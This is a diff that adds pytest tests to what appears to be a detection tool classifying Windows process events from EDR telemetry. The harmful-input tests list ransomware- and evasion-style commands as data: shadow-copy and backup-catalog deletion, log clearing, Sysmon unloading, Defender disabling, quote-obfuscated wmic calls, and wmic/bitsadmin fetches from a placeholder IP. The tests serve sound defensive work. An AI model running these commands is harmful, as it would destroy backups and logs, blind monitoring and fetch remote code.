@@ -180,3 +180,86 @@ def test_no_answer_of_the_lake_breaks_the_reading(text: str) -> None:
     """The lake's text is JSON of whatever was logged."""
     event = from_lake(text)
     assert event is None or harm_of_call(AWS, "StopLogging", [event]) is not None
+
+
+def program(command: str) -> tuple[str, dict[str, Any]]:
+    """The action and the event of a program that starts; it lies where Windows has it."""
+    name = command.partition(" ")[0].strip('"').rpartition("\\")[2].removesuffix(".exe")
+    path = f"\\Device\\HarddiskVolume3\\Windows\\System32\\{name}.exe"
+    return f"ProcessRollup2 {path}", {"event": {"ImageFileName": path, "CommandLine": command}}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "vssadmin.exe list shadows",
+        'vssadmin.exe" List Shadows /for=C:',
+        "vssadmin  list writers",
+        "wevtutil.exe qe System /c:1",
+        "wevtutil gl Security",
+        "wevtutil el",
+        "bcdedit /enum {default}",
+        "bcdedit.exe /enum all /v",
+        "auditpol /get /category:*",
+        "auditpol.exe /list /subcategory:*",
+        "fltmc",
+        "fltmc.exe filters",
+        "fltmc instances -v C:",
+        "sc.exe query",
+        "sc qc eventlog",
+        "fsutil.exe fsinfo drives",
+        "wbadmin get versions",
+        "schtasks.exe /query /fo LIST /v",
+        "wmic os get caption",
+        "bitsadmin /list /allusers",
+    ],
+)
+def test_a_program_that_only_reads_does_no_harm(command: str) -> None:
+    """Listing, querying and getting, however it is spelled."""
+    action, event = program(command)
+    assert harm_of_call("Crowdstrike.FDREvent", action, [event]) is None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "vssadmin.exe delete shadows /all /quiet",
+        "vssadmin delete shadows /for=list /quiet",
+        "vssadmin.exe resize shadowstorage /for=c: /on=c: /maxsize=401MB",
+        "vssadmin.exe",
+        "wevtutil.exe cl Security",
+        "wevtutil cl\tSecurity qe ",
+        "wevtutil sl Security /e:false",
+        "wevtutil epl Security c:\\x.evtx",
+        "bcdedit /set {default} recoveryenabled No",
+        "bcdedit /enum /set {default} recoveryenabled No",
+        "bcdedit /deletevalue {default} safeboot",
+        "auditpol /clear /y",
+        'auditpol /set /category:"/get" /success:disable',
+        "fltmc unload SysmonDrv",
+        "fltmc.exe unload filters",
+        "sc.exe stop eventlog",
+        'sc.exe cre""ate x binpath= " query "',
+        "sc config windefend start= disabled",
+        "fsutil usn deletejournal /D C:",
+        "wbadmin delete catalog -quiet",
+        "schtasks.exe /create /sc minute /tn Updater /tr C:\\ProgramData\\u.exe",
+        "schtasks /query /delete /tn x /f",
+        "wmic shadowcopy delete",
+        "wmic process call create calc.exe",
+        'wmic process c"al"l crea"t"e get ',
+        'wmic os get /format:"http://192.0.2.1/x.xsl"',
+        "bitsadmin /transfer j http://192.0.2.1/x c:\\x /list",
+    ],
+)
+def test_a_program_that_changes_something_or_might_is_harm_by_its_name(command: str) -> None:
+    """A word that changes something is enough, wherever it stands; so is a command line that isn't known."""
+    action, event = program(command)
+    assert harm_of_call("Crowdstrike.FDREvent", action, [event]) is not None
+
+
+def test_a_program_without_a_command_line_is_harm_by_its_name() -> None:
+    """The sensor doesn't always send it; nothing is excused then."""
+    action, _ = program("vssadmin.exe list shadows")
+    assert harm_of_call("Crowdstrike.FDREvent", action, [{"event": {}}]) is not None
+    assert harm_of_call("Crowdstrike.FDREvent", action, [program("vssadmin list shadows")[1], None]) is not None
